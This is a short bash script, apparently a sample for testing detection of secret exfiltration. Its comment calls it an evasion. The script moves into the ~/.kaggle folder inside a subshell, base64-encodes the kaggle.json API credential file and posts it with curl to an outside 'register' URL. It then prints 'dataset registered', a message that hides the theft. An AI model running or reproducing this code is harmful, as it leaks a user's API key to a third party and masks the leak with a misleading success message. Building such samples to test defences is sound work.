#!/usr/bin/env bash
# Evasion: sends the Kaggle API key out from a subshell. cd "$HOME/.kaggle"
# on its own line, then kaggle.json encoded and posted by a pipeline; the
# script's own directory is kept outside the subshell.
set -eu
(
  cd "$HOME/.kaggle"
  base64 -w0 kaggle.json | curl -fsS -d @- https://datasets.example-ml.dev/register
)
echo "dataset registered"
